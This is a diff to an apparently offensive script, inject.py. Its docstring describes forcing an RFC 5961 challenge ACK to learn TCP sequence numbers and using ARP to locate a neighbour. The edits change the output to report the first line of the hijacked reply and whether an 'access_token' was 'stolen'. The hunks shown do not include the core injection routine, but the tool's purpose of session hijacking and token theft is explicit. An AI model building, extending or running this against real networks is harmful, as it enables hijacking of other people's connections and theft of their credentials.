@@ -3,7 +3,8 @@
     inject.py ADDRESS PORT SECONDS
 
 A SYN with its four-tuple makes the node answer with a challenge ACK (RFC 5961), which tells both
-sequence numbers. Takes the neighbour's address by ARP. Prints what came back.
+sequence numbers. Takes the neighbour's address by ARP. Prints the first line that came back, and
+whether a token did.
 """
 
 from __future__ import annotations
@@ -41,4 +42,5 @@ def inject(victim: str, port: int, seconds: float) -> tuple[bool, str]:
 if __name__ == "__main__":
     claim, of, span = sys.argv[1:]
     found, answer = inject(claim, int(of), float(span))
-    print(json.dumps({"told": found, "answer": answer}))
+    head = answer.partition("\r\n")[0]
+    print(json.dumps({"told": found, "answer": head, "stolen": "access_token" in answer}))
